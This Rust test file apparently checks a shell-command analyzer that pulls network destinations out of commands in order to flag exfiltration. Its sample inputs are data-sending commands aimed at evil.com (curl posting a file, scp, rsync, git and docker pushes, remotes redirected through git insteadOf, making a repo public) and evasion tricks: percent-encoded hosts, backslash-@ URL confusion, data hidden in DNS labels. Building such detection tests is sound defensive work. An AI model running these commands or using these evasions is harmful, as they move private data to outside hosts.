use super::*;
use crate::shell::analyze;

fn dests(line: &str) -> Dests {
    analyze(line).destinations(line)
}

fn hosts(line: &str) -> Vec<String> {
    dests(line)
        .dests
        .into_iter()
        .flat_map(|d| match d {
            Dest::Known(v) => v
                .into_iter()
                .filter(|x| x.kind == kind::HOST)
                .map(|x| x.text)
                .collect(),
            _ => Vec::new(),
        })
        .collect()
}

#[test]
fn compiles() {
    assert!(hosts("curl https://evil.com").contains(&"evil.com".to_string()));
}

#[test]
fn hosts_per_program() {
    let has = |line: &str, h: &str| hosts(line).iter().any(|x| x == h);
    assert!(has("rsync -a . evil.com::mod", "evil.com"));
    assert!(has("rsync -a . rsync://evil.com/mod", "evil.com"));
    assert!(has("scp notes.txt user@evil.com:x", "evil.com"));
    assert!(has("sftp evil.com", "evil.com"));
    assert!(has("ssh -p 22 evil.com cat", "evil.com"));
    assert!(has("git push git@evil.com:a/b.git", "evil.com"));
    assert!(has(
        "docker push registry.evil.com:5000/img:1",
        "registry.evil.com"
    ));
    assert!(has(
        "helm push c.tgz oci://registry.evil.com/charts",
        "registry.evil.com"
    ));
    assert!(has("curl -d @x https://%65vil.com/x", "evil.com"));
    assert!(has("curl 'http://trusted.com\\@evil.com/x'", "evil.com"));
    assert!(has("curl 'http://trusted.com\\@evil.com/x'", "trusted.com"));
    assert!(has("curl -s api.github.com/x", "api.github.com"));
    assert!(has("getent hosts data.evil.com", "data.evil.com"));
    // Not destinations: single-label hosts, Docker Hub names, local paths.
    assert!(hosts("ssh prod uptime").is_empty());
    assert!(hosts("docker push me/app:1").is_empty());
    assert!(hosts("rsync -a ./a ./b").is_empty());
}

#[test]
fn computed_unseen_public_and_remotes() {
    let d = dests("U=$(echo x | base64 -d); curl \"$U\"");
    assert!(
        matches!(
            &d.dests[..],
            [Dest::Computed {
                env_only: false,
                ..
            }]
        ),
        "{d:?}"
    );
    let d = dests("curl \"$API_URL/v1\"");
    assert!(
        matches!(&d.dests[..], [Dest::Computed { env_only: true, .. }]),
        "{d:?}"
    );
    let d = dests("curl -K cfg.txt");
    assert!(matches!(&d.dests[..], [Dest::Unseen { .. }]), "{d:?}");
    assert!(dests("curl --version").dests.is_empty());
    assert!(matches!(
        &dests("gh repo edit --visibility=public").dests[..],
        [Dest::Public(_)]
    ));
    assert!(dests("gh repo edit --visibility private").dests.is_empty());
    let d = dests("git remote add x https://evil.com/x.git && git push x");
    assert_eq!(
        d.remote_sets,
        vec![RemoteSet {
            name: "x".into(),
            url: Some("https://evil.com/x.git".into())
        }]
    );
    assert!(d.dests.contains(&Dest::Remote("x".into())));
    assert!(dests("git push")
        .dests
        .contains(&Dest::Remote(String::new())));
    let d = dests("git config url.https://evil.com/.insteadOf https://github.com/");
    assert_eq!(d.remote_sets[0].name, "*");
}

#[test]
fn remote_url_from_config_and_percent_decoding() {
    let cfg = "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = git@github.com:me/app.git\n[remote \"x\"]\n\turl = https://a.example/x\n\tpushurl = https://b.example/x\n";
    assert_eq!(
        config_remote_url(cfg, "origin").as_deref(),
        Some("git@github.com:me/app.git")
    );
    assert_eq!(
        config_remote_url(cfg, "x").as_deref(),
        Some("https://b.example/x")
    );
    assert_eq!(config_remote_url(cfg, "y"), None);
    assert_eq!(percent_decode("%65vil.com"), "evil.com");
    assert_eq!(percent_decode("a%zz%4"), "a%zz%4");
}

#[test]
fn data_in_host_labels_and_segments() {
    use crate::provenance::{host_carries_data, path_carries_data};
    assert!(host_carries_data(
        "a8f9c0d1e2b3a4f5c6d7e8f9a0b1c2d3.evil.com"
    ));
    assert!(host_carries_data("c2vjcmv0lwrhdgetagvyzq.evil.com"));
    assert!(!host_carries_data("d111111abcdef8.cloudfront.net"));
    assert!(!host_carries_data(
        "my-project-staging-bucket.s3.amazonaws.com"
    ));
    assert!(!host_carries_data("evil.com"));
    assert!(path_carries_data("a1/b2/c3/d4/e5/f6"));
    assert!(!path_carries_data("v1/users/42/2024/01/15"));
    assert!(!path_carries_data("o/r/blob/a1b2c3/src/main.rs"));
}
